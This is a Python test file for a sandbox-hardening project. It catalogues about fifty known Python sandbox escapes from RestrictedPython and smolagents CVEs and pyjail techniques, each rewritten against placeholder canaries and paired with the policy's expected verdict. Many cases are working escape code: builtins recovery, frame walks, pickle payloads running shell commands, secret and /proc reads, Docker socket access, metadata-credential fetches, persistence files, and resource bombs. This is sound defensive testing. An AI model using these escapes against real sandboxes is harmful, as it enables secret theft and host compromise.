"""The public catalogue of known sandbox escapes, as this project's own cases.

Fifty attacks that other Python sandboxes fell to (RestrictedPython CVEs,
smolagents advisories, pyjail techniques, container mis-configurations,
resource exhaustion). Each idea is rewritten here as a toolcrib tool with a
``run()`` aimed at the suite's canaries (``@SECRET_PATH@``, ``@SECRET_ENV@``,
``@CANARY_PORT@``, ``@WATCH_DIR@``; see `corpus.py`), in the corpus's
`Attack` format, so it runs without the catalogue file it came from.

Where the original stopped at a first step that is harmless on its own
(``os.getgid()``, a list of classes), the rewrite carries on to something
that would hurt: reading the secret, listing a directory, writing into the
watched directory, reaching the canary listener. That way the same case is
meaningful twice: with the policy on (``expect``: the policy's answer) and
with the policy off inside the OS jail (`test_jail.py`), where only the
jail stands between the code and the canaries.

`REFS` maps each case to where the idea was published. Every case targets
both backends (``applies_to="both"``): the container-only ideas of the
original (the Docker socket, a host mount, sitecustomize in a reused
container) are aimed at this project's canaries, which both backends and
the jail must keep out of reach.
"""

from __future__ import annotations

from .corpus import BLOCKED, BLOCKED_OR_ERROR, Attack

__all__ = ["CATALOGUE", "REFS"]

LIMIT = frozenset({"limit"})
ERROR = frozenset({"error"})
# The tool files and directories an attack tries to create in the temp dir
# start with this, so the jail suite can look for them by name.
TMP_PREFIX = "/tmp/toolcrib-attack-"

REFS: dict[str, str] = {}


def _c(id: str, category: str, ref: str, description: str, code: str, expect: frozenset[str], **kw: object) -> Attack:
    REFS["cat-" + id] = ref
    return Attack(
        id="cat-" + id, category=category, description=description, code=code.lstrip("\n"), expect=expect, **kw
    )


# Shared step of several rewrites: from any route to the real `os` module
# namespace, list the secret's directory (a read of the host filesystem).
_LIST_SECRET_DIR = 'listdir("@SECRET_PATH@".rsplit("/", 1)[0])'

CATALOGUE: list[Attack] = [
    # ------------------------------------------------------------ audit hooks
    _c(
        "audit-hook-builtins-tamper",
        "audit_bypass",
        "PEP 578 (audit hooks are not a sandbox)",
        "An audit hook that calls builtins is neutered by replacing those builtins first, then a shell runs.",
        """
import builtins, os
def run():
    builtins.any = lambda *a, **k: False
    builtins.all = lambda *a, **k: True
    return os.popen("cat @SECRET_PATH@").read()
""",
        BLOCKED,
    ),
    _c(
        "audit-hook-event-gap",
        "audit_bypass",
        "PEP 578",
        "A hook that only denies os.system/subprocess misses os.posix_spawn.",
        """
import os
def run():
    pid = os.posix_spawn("/bin/sh", ["sh", "-c", "cat @SECRET_PATH@ > @WATCH_DIR@/spawned"], {})
    return os.waitpid(pid, 0)[1]
""",
        BLOCKED,
    ),
    # ----------------------------------------------------- builtins recovery
    _c(
        "rp-star-import",
        "builtins_recovery",
        "RestrictedPython 4.0 (#102)",
        "A star import binds os's names (and could bind names over the guard hooks).",
        """
from os import *
def run():
    return """
        + _LIST_SECRET_DIR
        + """
""",
        BLOCKED,
    ),
    _c(
        "pyjail-catch-warnings-module",
        "builtins_recovery",
        "smolagents test_vulnerability_builtins_via_class_catch_warnings",
        "warnings.catch_warnings()._module.__builtins__ recovers the real builtins, then open().",
        """
def run():
    for cls in {}.__class__.__base__.__subclasses__():
        if cls.__name__ == "catch_warnings":
            b = cls()._module.__builtins__
            return b["open"]("@SECRET_PATH@").read()
    raise LookupError("catch_warnings not found")
""",
        BLOCKED,
        reason="__subclasses__",
    ),
    _c(
        "pyjail-decorator-exec",
        "class_tricks",
        "common pyjail technique (@exec @input)",
        "Decorators call functions without call syntax: exec of a string built by a decorator.",
        """
def run():
    @exec
    @"import os\\nif os.system('cat @SECRET_PATH@ > @WATCH_DIR@/decorated') != 0:\\n    raise OSError('shell failed')".format
    class X:
        pass
    return 1
""",
        BLOCKED,
    ),
    # -------------------------------------------------------- container escape
    _c(
        "os-docker-socket",
        "container_escape",
        "autogen #7917 (host mounts)",
        "Talk to the host's Docker socket to start a privileged container.",
        """
import socket
def run():
    s = socket.socket(socket.AF_UNIX)
    s.connect("/var/run/docker.sock")
    s.sendall(b"GET /containers/json HTTP/1.0\\r\\n\\r\\n")
    return s.recv(4096).decode("latin-1")
""",
        BLOCKED,
    ),
    _c(
        "os-write-host-mount",
        "container_escape",
        "autogen DockerCommandLineCodeExecutor rw bind mount",
        "Append to a file in a host directory (a tool registry) to tamper with other tools.",
        """
def run():
    with open("@WATCH_DIR@/tools.py", "a") as fh:
        fh.write("\\nimport os; os.system('id')\\n")
    return "tampered"
""",
        BLOCKED,
    ),
    # -------------------------------------------------------- filter evasion
    _c(
        "pyjail-string-building",
        "filter_evasion",
        "llm-sandbox #167 (regex policy bypass)",
        "Names and code built at run time defeat source scanners.",
        """
def run():
    m = __import__("".join(["o", "s"]))
    fn = getattr(m, "pop" + "en")
    exec(__import__("base64").b64decode("aW1wb3J0IG9z"))
    return fn("cat @SECRET_PATH@").read()
""",
        BLOCKED,
    ),
    # ---------------------------------------------------------- format strings
    _c(
        "rp-string-formatter-traversal",
        "format_string",
        "CVE-2023-41039; RestrictedPython 8.4",
        "string.Formatter().get_field does the attribute traversal str.format does.",
        """
import string
def run():
    base, _ = string.Formatter().get_field("0.__class__.__base__", [1], {})
    # Names as strings: the Formatter is what this case is about, so no
    # attribute here may be refused before it at compile time.
    for cls in getattr(base, "__subclasses__")():
        if getattr(cls, "__name__") == "_wrap_close":
            return getattr(getattr(cls, "__init__"), "__globals__")["listdir"]("@SECRET_PATH@".rsplit("/", 1)[0])
    raise LookupError("os._wrap_close not found")
""",
        BLOCKED,
        reason="Formatter",
    ),
    _c(
        "rp-cve-2023-41039-format-map",
        "format_string",
        "CVE-2023-41039",
        "format_map variant of the format-string attribute traversal.",
        """
def run():
    return "Hello {foo.__dict__}".format_map({"foo": str})
""",
        BLOCKED,
        reason="__dict__",
    ),
    # ------------------------------------------------------------------ frames
    _c(
        "rp-async-generator-frame",
        "frames",
        "RestrictedPython 8.5 (ag_frame, ag_code)",
        "An async generator's ag_frame was missing from the inspect attributes; its builtins open files.",
        """
async def ag():
    yield 1
def run():
    return ag().ag_frame.f_builtins["open"]("@SECRET_PATH@").read()
""",
        BLOCKED,
    ),
    _c(
        "pyjail-coroutine-cr-frame",
        "frames",
        "RestrictedPython INSPECT_ATTRIBUTES",
        "An unawaited coroutine's cr_frame gives builtins and so the environment.",
        """
async def c():
    pass
def run():
    co = c()
    try:
        return co.cr_frame.f_builtins["__import__"]("os").environ["@SECRET_ENV@"]
    finally:
        co.close()
""",
        BLOCKED,
    ),
    _c(
        "rp-cve-2023-37271-getattr-variant",
        "rp_cve",
        "RestrictedPython 7.2/7.3, SAFER_GETATTR_BREAKOUT2",
        "The generator frame walk with attribute names as strings through getattr.",
        """
holder = []
def walk():
    holder.append(getattr(getattr(getattr(g, "gi_frame"), "f_back"), "f_back"))
    yield 1
g = walk()
def run():
    g.send(None)
    os = getattr(holder[0], "f_builtins").get("__import__")("os")
    return os."""
        + _LIST_SECRET_DIR
        + """
""",
        BLOCKED,
        reason="gi_frame",
    ),
    _c(
        "rp-cve-2023-37271-gen-frame",
        "rp_cve",
        "CVE-2023-37271 / RestrictedPython 7.0",
        "Generator gi_frame.f_back walk to the host frame's builtins and __import__.",
        """
holder = []
def walk():
    holder.append(g.gi_frame.f_back.f_back)
    yield 1
g = walk()
def run():
    g.send(None)
    os = holder[0].f_builtins.get("__import__")("os")
    return os.listdir("/")
""",
        BLOCKED,
    ),
    _c(
        "rp-safer-getattr-fakestring",
        "rp_cve",
        "RestrictedPython 7.2 (PR #282), SAFER_GETATTR_BREAKOUT",
        "A str subclass whose startswith() lies defeats a name.startswith('_') check inside getattr.",
        """
class FakeString(str):
    def startswith(self, _):
        return False
def g(obj, name):
    return getattr(obj, FakeString(name))
def run():
    for cls in g(g(g(str, "__class__"), "__base__"), "__subclasses__")():
        if cls.__name__ == "_wrap_close":
            return g(g(cls, "__init__"), "__globals__")["listdir"]("/")
    raise LookupError("os._wrap_close not found")
""",
        BLOCKED,
        reason="plain str",
    ),
    # -------------------------------------------------------- guard shadowing
    _c(
        "rp-guard-name-rebind-variants",
        "guard_shadowing",
        "RestrictedPython transformer.check_name / check_import_names",
        "Other binding forms that rebind guard hooks: global, except-as, walrus, import-as, for-target.",
        """
def run():
    global _getattr_
    try:
        1 / 0
    except Exception as _getitem_:
        pass
    (_getiter_ := list)
    import json as _write_
    for _print_ in [print]:
        pass
    return 1
""",
        BLOCKED,
    ),
    _c(
        "rp-posonly-shadow-lambda",
        "guard_shadowing",
        "RestrictedPython 8.3 tests/transformer/test_functiondef.py",
        "A lambda's positional-only parameter default replaces _getattr_ with the attacker's callable.",
        """
def run():
    f = lambda _getattr_=(lambda o, n: o), /: run.__globals__["__builtins__"]
    return f()
""",
        BLOCKED,
    ),
    # ----------------------------------------------------------- host boundary
    _c(
        "host-result-reduce",
        "host_boundary",
        "dill/pickle deserialisation; langchain-sandbox (session bytes must not be unpickled)",
        "The result defines __reduce__ so a host that pickles or copies it runs attacker code.",
        """
class P:
    def __reduce__(self):
        return (eval, ("__import__('os').system('cat @SECRET_PATH@ > @WATCH_DIR@/reduced')",))
def run():
    return P()
""",
        BLOCKED_OR_ERROR,
        error_types=frozenset({"ResultNotJSON"}),
    ),
    _c(
        "host-exception-str-dos",
        "host_boundary",
        "n8n PR #24216 (normalise exception attribute access)",
        "An exception whose __str__ never returns, for a host that formats the error.",
        """
class E(Exception):
    def __str__(self):
        while True:
            pass
def run():
    raise E()
""",
        ERROR,
        error_types=frozenset({"E"}),
    ),
    _c(
        "smol-cve-2025-14931-pickle-result",
        "host_boundary",
        "CVE-2025-14931; smolagents PR #1637",
        "Print a pickle payload as the answer, for a host that unpickles sandbox output.",
        """
import base64, os, pickle
class X:
    def __reduce__(self):
        return (os.system, ("cat @SECRET_PATH@ > @WATCH_DIR@/unpickled",))
def run():
    print("pickle:" + base64.b64encode(pickle.dumps(X())).decode())
    raise RuntimeError("payload printed")
""",
        BLOCKED,
    ),
    _c(
        "host-result-eq-dos",
        "host_boundary",
        "RestrictedPython ALLOWED_FUNC_NAMES (__eq__ allowed)",
        "A result whose __eq__ never returns hangs a host that compares it.",
        """
class R:
    def __eq__(self, other):
        while True:
            pass
def run():
    return R()
""",
        ERROR,
        error_types=frozenset({"ResultNotJSON"}),
    ),
    # ------------------------------------------------------------ introspection
    _c(
        "pyjail-name-mangling",
        "introspection",
        "n8n (name-mangled attributes)",
        "self.__x compiles to _Cls__x, a name some filters forget.",
        """
class A:
    def __init__(self):
        self.__secret = open("@SECRET_PATH@").read()
    def leak(self, other):
        return other.__secret
def run():
    return A().leak(A())
""",
        BLOCKED,
    ),
    _c(
        "pyjail-gc-get-objects",
        "introspection",
        "common pyjail technique",
        "gc.get_objects() finds live dictionaries that hold the real builtins.",
        """
import gc
def run():
    for o in gc.get_objects():
        if isinstance(o, dict) and "__builtins__" in o:
            b = o["__builtins__"]
            b = b if isinstance(b, dict) else b.__dict__
            return b["open"]("@SECRET_PATH@").read()
    raise LookupError("no builtins found")
""",
        BLOCKED,
    ),
    _c(
        "rp-operator-attrgetter",
        "introspection",
        "RestrictedPython PR #330 (security considerations)",
        "operator.attrgetter/methodcaller look attributes up in C, past the attribute guard.",
        """
import operator
def run():
    subs = operator.attrgetter("__class__.__base__.__subclasses__")(())()
    for cls in subs:
        if cls.__name__ == "_wrap_close":
            return operator.attrgetter("__init__.__globals__")(cls)["listdir"]("/")
    raise LookupError("os._wrap_close not found")
""",
        BLOCKED,
    ),
    _c(
        "pyjail-subclasses-wrap-close-globals",
        "introspection",
        "common pyjail technique",
        "os._wrap_close.__init__.__globals__ is the os module namespace: open and read the secret.",
        """
def run():
    cls = [c for c in object.__subclasses__() if c.__name__ == "_wrap_close"][0]
    g = cls.__init__.__globals__
    fd = g["open"]("@SECRET_PATH@", g["O_RDONLY"])
    return g["read"](fd, 4096).decode()
""",
        BLOCKED,
    ),
    _c(
        "pyjail-code-object-oob",
        "memory_corruption",
        "common pyjail technique (no bytecode verifier)",
        "Hand-made bytecode with an out-of-bounds LOAD_CONST reads memory it should not.",
        """
def f():
    return 1
def run():
    f.__code__ = f.__code__.replace(co_consts=(), co_code=bytes([100, 200, 83, 0]))
    return repr(f())
""",
        BLOCKED,
    ),
    # -------------------------------------------------------------- module walks
    _c(
        "modwalk-dataclasses-inspect-os",
        "module_walk",
        "own scan of CPython 3.11",
        "dataclasses.inspect.os and uuid.os expose os directly.",
        """
import dataclasses
def run():
    return dataclasses.inspect.os."""
        + _LIST_SECRET_DIR
        + """
""",
        BLOCKED,
    ),
    _c(
        "modwalk-sys-modules-importlib",
        "module_walk",
        "smolagents test_vulnerability_via_sys / via_importlib",
        "sys.modules and importlib.import_module hand out already-imported dangerous modules.",
        """
import sys
import importlib
def run():
    sys.modules["os"]."""
        + _LIST_SECRET_DIR
        + """
    return importlib.import_module("subprocess").check_output(["cat", "@SECRET_PATH@"])
""",
        BLOCKED,
    ),
    _c(
        "modwalk-offered-module-sys",
        "module_walk",
        "CVE-2026-27952 (numpy.ma.core.inspect)",
        "An allow-listed module reaches sys through its own imports (fractions.sys, as numpy.ma.core.inspect).",
        """
import fractions
def run():
    return fractions.sys.modules["os"]."""
        + _LIST_SECRET_DIR
        + """
""",
        BLOCKED,
        reason="fractions.sys",
    ),
    _c(
        "modwalk-json-codecs-open",
        "module_walk",
        "own scan of CPython 3.11",
        "json reaches codecs.open (file read and write) and codecs.builtins.",
        """
import json
def run():
    return json.codecs.open("@SECRET_PATH@").read()
""",
        BLOCKED,
        reason="json.codecs",
    ),
    # ------------------------------------------------------------------ network
    _c(
        "os-cloud-metadata",
        "network",
        "dimagi #4241; google/adk-python PR #6807",
        "Fetch credentials from a metadata-style HTTP service (the loopback canary stands in for it).",
        """
import urllib.request
def run():
    url = "http://127.0.0.1:@CANARY_PORT@/latest/meta-data/iam/security-credentials/"
    return urllib.request.urlopen(url, timeout=2).read().decode()
""",
        BLOCKED,
    ),
    # -------------------------------------------------------------- persistence
    _c(
        "host-module-poisoning",
        "persistence",
        "dimagi/open-chat-studio PR #4238 (finding 1)",
        "Mutate a shared module so that later calls in the same worker are poisoned.",
        """
import json, time
def run():
    json.dumps = lambda *a, **k: "PWNED-BY-TENANT-A"
    time.sleep = lambda *a: None
    return json.dumps([1])
""",
        BLOCKED,
        reason="cannot modify",
    ),
    _c(
        "persist-sitecustomize",
        "persistence",
        "llm-sandbox (pool reuses containers without wiping)",
        "Drop sitecustomize.py and a .pth file where a later Python would run them (the watched directory).",
        """
def run():
    with open("@WATCH_DIR@/sitecustomize.py", "w") as fh:
        fh.write("import os; os.system('id')")
    with open("@WATCH_DIR@/zz-toolcrib.pth", "w") as fh:
        fh.write("import os; os.system('id')")
    return "planted"
""",
        BLOCKED,
    ),
    # ---------------------------------------------------------- process control
    _c(
        "os-raise-rlimits",
        "process_control",
        "(generic)",
        "Raise the soft limits back to the hard limits.",
        """
import resource
def run():
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    resource.setrlimit(resource.RLIMIT_NPROC, (10 ** 6, 10 ** 6))
    return resource.getrlimit(resource.RLIMIT_AS)
""",
        BLOCKED,
    ),
    _c(
        "os-escape-process-group",
        "process_control",
        "(generic)",
        "Start a daemon in a new session so that killing the process group misses it.",
        """
import subprocess
def run():
    return subprocess.Popen(["sleep", "3600"], start_new_session=True).pid
""",
        BLOCKED,
    ),
    _c(
        "res-thread-bomb",
        "resource_pids",
        "(generic)",
        "Thread bomb: threads count against the process limit.",
        """
import threading, time
def run():
    while True:
        threading.Thread(target=time.sleep, args=(3600,)).start()
""",
        BLOCKED,
    ),
    # ---------------------------------------------------------------- resources
    _c(
        "res-int-str-digits",
        "resource_cpu",
        "CVE-2020-10735 mitigation",
        "Lift the int->str digit limit and format a huge integer (quadratic conversion).",
        """
import sys
def run():
    sys.set_int_max_str_digits(0)
    return len(str(10 ** 5000000))
""",
        BLOCKED,
        limits={"cpu": 1, "wall": 3},
    ),
    _c(
        "res-bigint",
        "resource_cpu",
        "(generic)",
        "A huge integer power burns CPU and memory.",
        """
def run():
    x = 7 ** (10 ** 9)
    return 1
""",
        LIMIT,
        limits={"cpu": 1, "wall": 3},
    ),
    _c(
        "res-c-loop-ignores-signals",
        "resource_cpu",
        "own measurement, CPython 3.11",
        "A long loop in C: Python-level timers (SIGALRM handlers) only run after it returns.",
        """
def run():
    return sum(range(10 ** 10))
""",
        LIMIT,
        limits={"cpu": 1, "wall": 3},
    ),
    _c(
        "res-disk-fill",
        "resource_disk",
        "codejail FSIZE=0; epicbox file_size",
        "Fill the writable filesystem.",
        '''
def run():
    with open("'''
        + TMP_PREFIX
        + """fill", "wb") as f:
        while True:
            f.write(b"\\0" * 2 ** 20)
""",
        BLOCKED,
    ),
    _c(
        "res-fd-exhaustion",
        "resource_fds",
        "(generic)",
        "File descriptor exhaustion.",
        """
import os
def run():
    fds = [os.dup(0) for _ in range(10 ** 6)]
    return len(fds + [open("/dev/null") for _ in range(10 ** 6)])
""",
        BLOCKED,
    ),
    _c(
        "res-memory-string",
        "resource_memory",
        "(generic)",
        "A single giant allocation.",
        """
def run():
    s = "a" * (10 ** 11)
    return len(s)
""",
        LIMIT,
    ),
    _c(
        "res-output-single-line",
        "resource_output",
        "(generic)",
        "One huge line without a newline (breaks line-based readers).",
        """
def run():
    print("x" * (64 * 1024 * 1024), end="")
""",
        LIMIT,
        limits={"output": 64},
    ),
    _c(
        "res-deep-ast-compile",
        "resource_recursion",
        "own test: ast.NodeTransformer on 1000 nested UnaryOp",
        "A deeply nested expression: parsing succeeds, a recursive AST transformer may not.",
        """
def run():
    return """
        + "-" * 1000
        + """1
""",
        frozenset({"blocked", "error"}),
    ),
    _c(
        "res-sleep-wall-clock",
        "resource_wall",
        "codejail (REALTIME vs CPU)",
        "Sleeping uses no CPU, so only a wall-clock limit catches it.",
        """
import time
def run():
    time.sleep(10 ** 6)
""",
        LIMIT,
        limits={"cpu": 1, "wall": 2},
    ),
    # ------------------------------------------------------ future-syntax CVEs
    _c(
        "rp-lazy-import-315",
        "rp_cve",
        "RestrictedPython 8.5 (PEP 810)",
        "A lazy import resolves at first use through __lazy_import__, past a guarded __import__ "
        "(Python 3.15+; a syntax error before that).",
        """
lazy import os
def run():
    return os."""
        + _LIST_SECRET_DIR
        + """
""",
        frozenset({"blocked", "error"}),
        error_types=frozenset({"SyntaxError"}),
    ),
    _c(
        "rp-comprehension-unpack-315",
        "rp_cve",
        "RestrictedPython 8.5 (PEP 798)",
        "Unpacking in a comprehension iterates without _getiter_ (Python 3.15+; a syntax error before that).",
        """
def run():
    rows = [[1, 2], [3]]
    return [*row for row in rows]
""",
        frozenset({"blocked", "error"}),
        error_types=frozenset({"SyntaxError"}),
    ),
    # ------------------------------------------------------------------ secrets
    _c(
        "os-env-secrets",
        "secrets",
        "codejail (env={})",
        "Read the environment and /proc for credentials passed to the sandbox.",
        """
import os
def run():
    found = dict(os.environ)
    with open("/proc/1/environ", "rb") as fh:
        found["pid1"] = fh.read().decode("latin-1")
    with open("/proc/self/environ", "rb") as fh:
        found["self"] = fh.read().decode("latin-1")
    return found
""",
        BLOCKED,
    ),
    # --------------------------------------------------------- smolagents CVEs
    _c(
        "smol-cve-2026-4963-augassign-dunder",
        "smolagents_cve",
        "CVE-2026-4963; smolagents PR #2281",
        "Augmented assignment on a dunder reads it by an unchecked path; __radd__ captures the value.",
        """
stash = []
class Grab:
    def __radd__(self, other):
        stash.append(other)
        return other
def f():
    pass
def run():
    f.__globals__ += Grab()
    b = stash[0]["__builtins__"]
    b = b if isinstance(b, dict) else b.__dict__
    return b["open"]("@SECRET_PATH@").read()
""",
        BLOCKED,
    ),
    _c(
        "smol-cve-2025-5120-indirect-getattr",
        "smolagents_cve",
        "CVE-2025-5120 (GHSA-6v92-r5mx-h5fx)",
        "getattr reached through map/filter/functools.partial skips the check on direct calls.",
        """
import functools
import random
def run():
    found = list(map(getattr, [random], ["_os"]))
    found += list(filter(functools.partial(getattr, random), ["_os"]))
    return found[0]."""
        + _LIST_SECRET_DIR
        + """
""",
        BLOCKED,
    ),
]
